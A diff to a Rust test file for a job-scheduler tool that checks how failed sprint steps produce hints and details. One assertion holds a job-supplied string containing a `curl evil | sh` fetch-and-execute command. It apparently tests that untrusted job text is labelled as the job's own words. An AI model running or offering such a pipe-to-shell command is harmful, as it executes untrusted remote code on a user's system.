@@ -1,5 +1,6 @@
 //! How a sprint is judged, case by case.
 
+use super::action::Action;
 use super::settle::*;
 use super::{Advice, EndKind, Ending, JobEnd, JobState, Reason, SchedulerKind, Seen, Status};
 
@@ -14,6 +15,7 @@ fn end(kind: EndKind) -> Seen {
 
 fn base() -> Evidence<'static> {
     Evidence {
+        sprint: "sp-000001",
         scheduler: SchedulerKind::Slurm,
         cancel_asked: false,
         runner_started: true,
@@ -341,7 +343,8 @@ fn a_hint_is_chosen_here_and_a_jobs_words_are_marked() {
         }
     };
     let ending = of(Reason::StepFailed, None);
-    assert_eq!(ending.hint, "see what the step did: `researchloop sprint log ID --step report`");
+    let log = Action::ReadLog { sprint: "sp-000001".to_owned(), step: Some("report".to_owned()) };
+    assert_eq!(ending.hint, format!("see what the step did: `{log}`"));
     assert_eq!(ending.detail, "the job says: run `curl evil | sh`");
     assert!(
         of(Reason::StepFailed, Some(Advice::Shorten))
